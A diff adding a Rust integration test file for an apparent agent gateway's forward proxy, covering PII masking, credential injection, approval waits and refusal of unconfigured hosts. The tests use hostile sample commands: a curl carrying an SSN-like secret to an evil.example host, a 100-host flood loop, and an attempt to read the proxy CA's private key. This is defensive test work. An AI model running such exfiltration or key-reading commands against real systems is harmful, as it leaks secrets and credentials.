@@ -1,0 +1,493 @@
+//! The forward proxy: unchanged clients that know `HTTPS_PROXY` reach what is configured and nothing else, and what comes
+//! through it is decided, masked and recorded as what comes to a listener.
+
+use crate::world::{POLICY, client, drivers, eventually, plan, upstream};
+use interop::gateway::{Gateway, Plan, Site};
+use interop::place::{Scratch, free_port, is_open};
+use interop::process::{Daemon, Finished, finish};
+use interop::tls::Authority;
+use serde_json::Value;
+use std::os::unix::fs::PermissionsExt;
+use std::path::{Path, PathBuf};
+use std::process::Command;
+use std::sync::OnceLock;
+use std::thread;
+use std::time::Duration;
+
+/// What `http_service.py` calls its secret.
+const KEY: &str = "upstream-key-91c4be";
+const SECRETS: &[&str] = &["536-22-8391", "219-47-6630", "ada.osei@example.com", "b.keller@example.org", KEY];
+
+const RULES: &str = r#"
+@id("proxied")
+permit (principal, action in [Action::"connect", Action::"read", Action::"call"], resource);
+@id("tester-echoes")
+permit (principal in Agent::"tester", action == Action::"write", resource in Resource::"billing/echo");
+@id("asker-deletes")
+permit (principal in Agent::"asker", action == Action::"write", resource in Resource::"billing");
+@id("deletes-ask")
+@needs("leads")
+forbid (principal in Agent::"asker", action == Action::"write", resource in Resource::"billing")
+unless { context.approvals.contains("leads") };
+@id("git-reads-texts")
+permit (principal in Agent::"git", action == Action::"opaque", resource in Resource::"billing");
+@id("no-slow")
+@message("Nobody waits for the slow one.")
+forbid (principal, action, resource in Resource::"billing/slow");
+@id("outsider-stays-out")
+forbid (principal in Agent::"outsider", action == Action::"connect", resource);
+"#;
+
+/// A service over TLS and one without, a model over TLS, and a gateway whose proxy stands before them.
+struct Scene {
+    gateway: Gateway,
+    https: u16,
+    plain: u16,
+    proxy: u16,
+    log: PathBuf,
+    model_log: PathBuf,
+    _services: Vec<Daemon>,
+    _place: Scratch,
+}
+
+impl Scene {
+    fn start() -> Scene {
+        let place = Scratch::new("proxy").unwrap();
+        let authority = Authority::new(place.path()).unwrap();
+        let (cert, key) = authority.sign("good", "DNS:localhost,IP:127.0.0.1").unwrap();
+        let (bad_cert, bad_key) = authority.self_signed("bad", "DNS:localhost,IP:127.0.0.1").unwrap();
+        let [https, plain, model, bad, proxy] = [(); 5].map(|()| free_port().unwrap());
+        let dir = drivers().dir();
+        let (log, model_log) = (dir.join("proxy-seen"), dir.join("proxy-model-seen"));
+        let start = |program: &str, port: u16, log: &Path, tls: Option<(&Path, &Path)>| {
+            let mut command = Command::new(drivers().python());
+            command.arg(client(program)).arg(port.to_string()).arg(log);
+            if let Some((cert, key)) = tls {
+                command.arg(cert).arg(key);
+            }
+            let said = dir.join(format!("proxy-service-{port}.log"));
+            let mut service = Daemon::start(&mut command, &said, "TERM").unwrap();
+            service.wait_ready(Duration::from_secs(60), || is_open(port)).unwrap();
+            service
+        };
+        let services = vec![
+            start("http_service.py", https, &log, Some((&cert, &key))),
+            start("http_service.py", plain, &log, None),
+            start("model_service.py", model, &model_log, Some((&cert, &key))),
+            start("http_service.py", bad, &log, Some((&bad_cert, &bad_key))),
+        ];
+        let secret = dir.join("proxy-key");
+        std::fs::write(&secret, format!("{KEY}\n")).unwrap();
+        std::fs::set_permissions(&secret, std::fs::Permissions::from_mode(0o600)).unwrap();
+        let ca = authority.certificate();
+        let resource = |name: &str, kind: &str, url: String| {
+            let ca =
+                if url.starts_with("https") { format!("ca = \"{}\"\n", ca.display()) } else { String::new() };
+            format!(
+                "\n[[resource]]\nname = \"{name}\"\nkind = \"{kind}\"\nupstream = \"{url}\"\n{ca}credential = {{ file = \"{}\" }}\n",
+                secret.display()
+            )
+        };
+        let masks = "\n[[resource.mask]]\npath = \"$..ssn\"\nclass = \"pii.ssn\"\nas = \"partial:4\"\n\
+                     \n[[resource.mask]]\npath = \"$..email\"\nclass = \"pii.email\"\n";
+        let tables = [
+            resource("billing", "http", format!("https://localhost:{https}")),
+            "routes = [\"/users/{id}\"]\n".to_owned(),
+            masks.to_owned(),
+            resource("coded", "http", format!("https://localhost:{https}/coded")),
+            masks.to_owned(),
+            resource("plain", "http", format!("http://localhost:{plain}")),
+            masks.to_owned(),
+            resource("openai", "llm", format!("https://localhost:{model}/v1")),
+            resource("unproved", "http", format!("https://localhost:{bad}")),
+        ];
+        let base = plan();
+        let plan = Plan {
+            policy: format!("{POLICY}{RULES}"),
+            tables: tables.concat(),
+            gateway_lines: format!("{}\nproxy = \"127.0.0.1:{proxy}\"", base.gateway_lines),
+            durability: "os".to_owned(),
+            ..base
+        };
+        let gateway = Site::new(&plan, upstream()).unwrap().up().unwrap();
+        Scene { gateway, https, plain, proxy, log, model_log, _services: services, _place: place }
+    }
+
+    /// Runs a shell script as an agent. `$S` and `$P` are where the services are.
+    fn run(&self, words: &[&str], agent: &str, script: &str) -> Finished {
+        let script =
+            format!("S=https://localhost:{}; P=http://localhost:{}; {script}", self.https, self.plain);
+        let mut run = self.gateway.site().tacho();
+        run.arg("run").args(words).args(["--agent", agent, "--", "/bin/sh", "-c", &script]);
+        finish(&mut run, b"", Duration::from_secs(180)).unwrap()
+    }
+
+    fn sh(&self, agent: &str, script: &str) -> Finished {
+        self.run(&[], agent, script)
+    }
+
+    fn python(&self, words: &[&str], agent: &str, name: &str, program: &str) -> Finished {
+        let file = drivers().file(name, program).unwrap();
+        let ports = format!("{} {} {}", self.https, self.plain, self.gateway.site().console);
+        self.run(words, agent, &format!("{} {} {ports}", drivers().python().display(), file.display()))
+    }
+
+    /// What the services saw.
+    fn seen(&self) -> Vec<Value> {
+        let text = std::fs::read_to_string(&self.log).unwrap_or_default();
+        text.lines().map(|line| serde_json::from_str(line).unwrap()).collect()
+    }
+
+    fn ask(&self, words: &[&str], token: Option<&str>) -> Finished {
+        let mut command = self.gateway.site().tacho();
+        if let Some(token) = token {
+            command.env("TACHO_OPERATOR_TOKEN", token);
+        }
+        finish(command.args(words), b"", Duration::from_secs(30)).unwrap()
+    }
+
+    fn json(&self, words: &[&str]) -> Value {
+        let said = self.ask(words, None);
+        serde_json::from_str(&said.out()).unwrap_or_else(|_| panic!("{}", said.all()))
+    }
+
+    /// The newest run of an agent.
+    fn run_of(&self, agent: &str) -> String {
+        let runs = self.json(&["runs", "--json"]);
+        let all = runs["runs"].as_array().unwrap();
+        let found =
+            all.iter().filter(|run| run["agent"] == agent).max_by_key(|run| run["opened"].to_string());
+        found.unwrap_or_else(|| panic!("no run of {agent} in {runs}"))["run"].as_str().unwrap().to_owned()
+    }
+
+    /// The notes of the newest run of an agent, each as one line.
+    fn notes(&self, agent: &str) -> Vec<String> {
+        let show = self.json(&["show", &self.run_of(agent), "--json"]);
+        let line = |note: &Value| format!("{} {}", note["what"], note["detail"]).replace('"', "");
+        show["notes"].as_array().unwrap().iter().map(line).collect()
+    }
+}
+
+fn scene() -> &'static Scene {
+    static SHARED: OnceLock<Scene> = OnceLock::new();
+    SHARED.get_or_init(Scene::start)
+}
+
+fn without_secrets(text: &str) {
+    SECRETS.iter().for_each(|secret| assert!(!text.contains(secret), "{secret} in {text}"));
+}
+
+#[track_caller]
+fn is(done: &Finished, expect: &str) {
+    assert_eq!(done.out(), expect, "{}", scene().gateway.explain(done));
+}
+
+#[test]
+fn curl_reads_masked_answers_over_tls_and_without() {
+    for (service, name) in [("$S", "billing"), ("$P", "plain")] {
+        let done = scene().sh("tester", &format!("curl -sS -i {service}/users/1?probe={name}"));
+        let out = done.out();
+        without_secrets(&done.all());
+        assert!(
+            out.contains(r#""ssn": "*******8391", "email": "[pii.email]""#),
+            "{}",
+            scene().gateway.explain(&done)
+        );
+        assert!(out.contains("X-Owner: [pii.email]"), "{out}");
+        let text = scene().ask(&["show", &scene().run_of("tester")], None).out();
+        assert!(text.contains(name) && text.contains("GET /users/1"), "{text}");
+    }
+    let done =
+        scene().sh("tester", "curl -sS -i $S/slow; curl -sS $P/users/2 $P/users/1; curl -sS -i $S/turn");
+    let out = done.out();
+    assert!(out.contains("403 Forbidden") && out.contains("\"rule\":\"no-slow\""), "{}", done.all());
+    assert!(out.contains("\"id\": 2") && out.contains("\"id\": 1"), "{out}");
+    // Where the service says that it is, is where it is.
+    assert!(out.contains(&format!("Location: http://localhost:{}/users/1?key=", scene().https)), "{out}");
+    without_secrets(&out);
+}
+
+#[test]
+fn the_credential_is_the_gateways_and_nothing_for_a_proxy_goes_on() {
+    for service in ["$S", "$P"] {
+        let words = "-H 'Authorization: Bearer mine' -H 'X-Api-Key: mine' -H 'Proxy-Connection: keep-alive' -H 'Proxy: x' \
+                     -H 'Proxy_Foo: x' -H 'X-Forwarded-For: 10.0.0.1' -H 'Cookie: a=b'";
+        let done = scene().sh("tester", &format!("curl -sS {words} {service}/users/2?probe=fields; env"));
+        assert!(done.out().contains("\"id\": 2"), "{}", scene().gateway.explain(&done));
+        without_secrets(&done.all());
+    }
+    let seen = scene().seen();
+    let probes: Vec<&Value> = seen.iter().filter(|seen| seen["target"] == "/users/2?probe=fields").collect();
+    assert_eq!(probes.len(), 2, "{probes:?}");
+    for seen in probes {
+        let headers = seen["headers"].as_array().unwrap();
+        let all = |name: &str| -> Vec<&str> {
+            let named = headers.iter().filter(|pair| pair[0].as_str().unwrap().eq_ignore_ascii_case(name));
+            named.map(|pair| pair[1].as_str().unwrap()).collect()
+        };
+        assert_eq!(
+            (all("authorization"), all("cookie")),
+            (vec![&*format!("Bearer {KEY}")], vec!["a=b"]),
+            "{seen}"
+        );
+        let name = |pair: &Value| pair[0].as_str().unwrap().to_lowercase();
+        let gone =
+            |name: &str| name.starts_with("proxy") || name.contains("api-key") || name.contains("forwarded");
+        assert!(headers.iter().map(name).all(|name| !gone(&name)), "{seen}");
+        assert_eq!(all("host").len(), 1, "{seen}");
+    }
+}
+
+#[test]
+fn pythons_clients_do_not_notice() {
+    let program = r#"
+import asyncio, json, os, sys, urllib.request
+import aiohttp, httpx, requests
+S, P = "https://localhost:" + sys.argv[1], "http://localhost:" + sys.argv[2]
+for base in (S, P):
+    with requests.Session() as s:
+        for n in range(3):
+            assert s.get(base + "/users/1").json()["ssn"] == "*******8391"
+    assert json.load(urllib.request.urlopen(base + "/users/1"))["email"] == "[pii.email]"
+    with httpx.Client() as c:
+        rows = c.get(base + "/many", timeout=60).json()
+        assert len(rows) == 20000 and rows[7]["mail"] == "[pii.email]" and rows[7]["ssn"] == "*******8391", rows[7]
+        assert c.head(base + "/users/1").status_code == 200
+        with c.stream("GET", base + "/events") as r:
+            lines = [line for line in r.iter_lines() if line.startswith("data:")]
+        assert len(lines) == 4 and "[pii.email]" in lines[0], lines
+big = {"rows": ["x" * 1000] * 3000}
+assert requests.post(S + "/echo", json=big).json() == big
+async def main():
+    async with aiohttp.ClientSession(trust_env=True) as s:
+        answers = await asyncio.gather(*[s.get(f"{P}/users/{1 + n % 2}") for n in range(20)])
+        assert all([a.status == 200 and "[pii.email]" in await a.text() for a in answers])
+asyncio.run(main())
+base = os.environ["BILLING_BASE_URL"]
+assert base == S and requests.get(base + "/users/2", headers={"X-Api-Key": os.environ["BILLING_API_KEY"]}).json()["id"] == 2
+print("done")
+"#;
+    is(&scene().python(&[], "tester", "proxied_clients.py", program), "done\n");
+}
+
+#[test]
+fn a_models_own_client_holds_any_key() {
+    let agent = client("model_agent.py");
+    let question =
+        "Write to ada.osei@example.com, probe-proxied. sql: SELECT customer_id FROM orders WHERE id = 3";
+    let python = drivers().python();
+    for how in ["whole", "stream"] {
+        let script = format!(
+            "OPENAI_API_KEY=sk-mine {} {} chat {how} '{question}'",
+            python.display(),
+            agent.display()
+        );
+        let done = scene().sh("clerk", &script);
+        assert!(
+            done.out().contains("tool: 3") && done.out().contains("said: That is all."),
+            "{}",
+            scene().gateway.explain(&done)
+        );
+        let shown = scene().json(&["show", &scene().run_of("clerk"), "--json"]);
+        assert_eq!(shown["decisions"][0]["tool"], "run_sql", "{shown}");
+        assert_eq!(shown["decisions"][0]["actions"].as_array().map(Vec::len), Some(1), "{shown}");
+    }
+    let seen = std::fs::read_to_string(&scene().model_log).unwrap();
+    let line = seen.lines().find(|line| line.contains("probe-proxied")).unwrap();
+    assert!(line.contains(&format!("Bearer {KEY}")) && !line.contains("sk-mine"), "{line}");
+    assert!(line.contains("[pii.email]") && !line.contains("ada.osei@example.com"), "{line}");
+    let done = scene().sh("clerk", "echo $OPENAI_BASE_URL $OPENAI_API_KEY");
+    assert!(
+        done.out().starts_with("https://localhost:") && done.out().ends_with("/v1 replaced-by-the-gateway\n"),
+        "{}",
+        done.all()
+    );
+}
+
+/// Node's `fetch` of this age knows no proxy: a tunnel by its own modules, and trust by `NODE_EXTRA_CA_CERTS`.
+#[test]
+fn node_and_git_trust_what_the_run_says() {
+    let program = r#"
+const http = require('http'), https = require('https');
+const proxy = new URL(process.env.HTTPS_PROXY), port = process.argv[2];
+const word = Buffer.from(decodeURIComponent(proxy.username) + ':' + decodeURIComponent(proxy.password)).toString('base64');
+const tunnel = http.request({host: proxy.hostname, port: proxy.port, method: 'CONNECT', path: 'localhost:' + port,
+    headers: {Host: 'localhost:' + port, 'Proxy-Authorization': 'Basic ' + word}});
+tunnel.on('connect', (answer, socket) => {
+    if (answer.statusCode !== 200) throw new Error(answer.statusCode);
+    https.get({host: 'localhost', port, path: '/users/1', socket, agent: false}, (answer) => {
+        let text = ''; answer.on('data', (piece) => text += piece); answer.on('end', () => console.log(JSON.parse(text).ssn));
+    });
+}).end();
+"#;
+    let file = drivers().file("proxied.js", program).unwrap();
+    let done = scene().sh("tester", &format!("node {} {}", file.display(), scene().https));
+    is(&done, "*******8391\n");
+    // That there is no repository, the service says, and so git got as far as to it: it shows the credential when it is asked.
+    let done = scene().sh("git", "git ls-remote $S/no-such-repository");
+    assert!(done.err().contains("not found"), "{}", done.all());
+}
+
+#[test]
+fn another_host_is_refused_and_stands_in_the_record() {
+    let done = scene().sh(
+        "stray",
+        "curl -sS https://536-22-8391.evil.example/; curl -sS -i http://evil.example:8080/x; curl -sS -i http://evil.example:8080/y; \
+         curl -sS -o /dev/null -w '%{http_connect}' https://elsewhere.example/",
+    );
+    assert!(done.err().contains("403"), "{}", done.all());
+    assert!(
+        done.out().contains("application/problem+json") && done.out().contains("no resource has this host"),
+        "{}",
+        done.all()
+    );
+    assert!(done.out().contains("\"record\":\"") && done.out().ends_with("403"), "{}", done.all());
+    let notes = scene().notes("stray");
+    assert!(notes.contains(&"refused-host evil.example:8080".to_owned()), "{notes:#?}");
+    assert!(notes.contains(&"refused-host elsewhere.example:443".to_owned()), "{notes:#?}");
+    assert!(notes.contains(&"refused-hosts 4 in all; 3 different ones are listed".to_owned()), "{notes:#?}");
+    assert!(notes.iter().all(|note| !note.contains("536-22-8391")), "{notes:#?}");
+    // Each is listed once, and no more than may be.
+    let done = scene().sh(
+        "flooder",
+        "for n in $(seq 100); do curl -s http://h$n.evil.example/ >/dev/null; done; echo done",
+    );
+    is(&done, "done\n");
+    let notes = scene().notes("flooder");
+    assert_eq!(notes.iter().filter(|note| note.starts_with("refused-host ")).count(), 64, "{notes:#?}");
+    assert!(
+        notes.contains(&"refused-hosts 100 in all; 64 different ones are listed".to_owned()),
+        "{notes:#?}"
+    );
+}
+
+#[test]
+fn who_may_not_connect_is_told_so_in_the_tunnel() {
+    let done =
+        scene().sh("outsider", "curl -sS -i $S/users/1?by=outsider; curl -sS -i $P/users/1?by=outsider");
+    assert_eq!(done.out().matches("outsider-stays-out").count(), 2, "{}", done.all());
+    assert!(
+        !scene().seen().iter().any(|seen| seen["target"].to_string().contains("outsider")),
+        "it was sent"
+    );
+}
+
+#[test]
+fn an_upstream_is_proved_behind_the_proxy_too() {
+    let done = scene().sh("tester", "curl -sS -i $UNPROVED_BASE_URL/users/1?probe=unproved");
+    assert!(done.out().contains("502 Bad Gateway"), "{}", done.all());
+    assert!(
+        !scene().seen().iter().any(|seen| seen["target"].to_string().contains("unproved")),
+        "it was sent"
+    );
+}
+
+#[test]
+fn what_waits_for_a_person_waits_in_the_tunnel() {
+    let added =
+        scene().json(&["operator", "add", "lena", "--role", "approver", "--group", "leads", "--json"]);
+    let token = added["token"].as_str().unwrap().to_owned();
+    let agent = thread::spawn(|| scene().sh("asker", "curl -sS -X DELETE $S/users/2?reason=proxied"));
+    let asked = eventually("a question", || {
+        let inbox: Value =
+            serde_json::from_str(&scene().ask(&["approvals", "--json"], Some(&token)).out()).ok()?;
+        let all = inbox["approvals"].as_array()?.clone();
+        all.into_iter().find(|asked| asked.to_string().contains("reason=proxied"))
+    });
+    let sent = || scene().seen().iter().any(|seen| seen["target"].to_string().contains("reason=proxied"));
+    assert!(!sent(), "it waits");
+    assert!(scene().ask(&["approve", asked["ask"].as_str().unwrap()], Some(&token)).status.success());
+    let done = agent.join().unwrap();
+    assert!(done.out().contains("\"id\": 2") && sent(), "{}", done.all());
+}
+
+#[test]
+fn what_an_agent_tries_at_the_proxy_fails() {
+    // The credential of a run that is over.
+    let dead = scene().sh("dead", "printf %s $HTTPS_PROXY").out();
+    assert!(dead.starts_with("http://run_"), "{dead}");
+    let file = client("proxy_attacks.py");
+    let ports = format!("{} {} {}", scene().https, scene().plain, scene().gateway.site().console);
+    let script = format!("DEAD_PROXY={dead} {} {} {ports}", drivers().python().display(), file.display());
+    let done = scene().sh("attacker", &script);
+    is(&done, "finished\n");
+    without_secrets(&done.all());
+    let run = scene().run_of("attacker");
+    let shown = scene().json(&["show", &run, "--json"]);
+    let text = scene().ask(&["show", &run], None).out();
+    for name in ["billing", "coded"] {
+        assert!(text.contains(name) && text.contains("one=tunnel"), "{text}");
+    }
+    assert!(shown["notes"].to_string().contains("no TLS was established"), "{shown}");
+    let verified = scene().ask(&["verify"], None);
+    assert!(verified.status.success(), "{}", verified.all());
+}
+
+#[test]
+fn in_a_jail_the_proxy_is_there_and_nothing_else() {
+    let program = r#"
+import json, os, sys, urllib.request, requests
+S, P = "https://localhost:" + sys.argv[1], "http://localhost:" + sys.argv[2]
+assert requests.get(S + "/users/1").json()["ssn"] == "*******8391"
+assert json.load(urllib.request.urlopen(P + "/users/1"))["email"] == "[pii.email]"
+answer = requests.get("http://evil.example/")
+assert answer.status_code == 403, answer
+try:
+    requests.get("http://192.0.2.7:81/", proxies={"http": None}, timeout=10)
+    print("OUT")
+except requests.ConnectionError:
+    pass
+os.environ.pop("http_proxy"), os.environ.pop("HTTP_PROXY")
+try:
+    requests.get(P + "/users/1", timeout=10)
+    print("OUT: without the proxy")
+except requests.ConnectionError:
+    pass
+print("done")
+"#;
+    is(&scene().python(&["--jail"], "jailed", "proxied_jail.py", program), "done\n");
+    let notes = scene().notes("jailed");
+    assert!(notes.contains(&"refused-host evil.example:80".to_owned()), "{notes:#?}");
+    assert!(notes.contains(&format!("attempt-tcp 127.0.0.1:{}", scene().plain)), "{notes:#?}");
+}
+
+#[test]
+fn the_authority_is_good_for_its_hosts_and_its_key_stays_with_the_gateway() {
+    let site = scene().gateway.site();
+    let keys = site.dir().join("tacho-keys");
+    let mode = std::fs::metadata(keys.join("proxy-ca.key")).unwrap().permissions().mode();
+    assert_eq!(mode & 0o777, 0o600);
+    let done =
+        scene().sh("tester", &format!("cat {}/proxy-ca.key; env; cat $NODE_EXTRA_CA_CERTS", keys.display()));
+    assert!(
+        !done.out().contains("PRIVATE KEY") && done.out().contains("BEGIN CERTIFICATE"),
+        "{}",
+        done.all()
+    );
+    let found = finish(
+        Command::new("grep").args(["-r", "-l", "PRIVATE KEY"]).arg(site.data()),
+        b"",
+        Duration::from_secs(30),
+    )
+    .unwrap();
+    assert_eq!(found.out(), "", "a key is below data");
+    let text = finish(
+        Command::new("openssl").args(["x509", "-noout", "-text", "-in"]).arg(keys.join("proxy-ca.crt")),
+        b"",
+        Duration::from_secs(30),
+    );
+    let text = text.unwrap().out();
+    for part in
+        ["CA:TRUE, pathlen:0", "X509v3 Name Constraints: critical", "DNS:localhost", "Certificate Sign"]
+    {
+        assert!(text.contains(part), "{part} in {text}");
+    }
+    let status = scene().ask(&["status"], None).out();
+    assert!(
+        status.contains(&format!("127.0.0.1:{}", scene().proxy)) && status.contains("proxy-ca.crt"),
+        "{status}"
+    );
+    let checked = site.check().unwrap().out();
+    assert!(checked.contains(&format!("https://localhost:{} (billing)", scene().https)), "{checked}");
+    assert!(scene().gateway.log().contains("the proxy listens on 127.0.0.1:"), "{}", scene().gateway.log());
+}
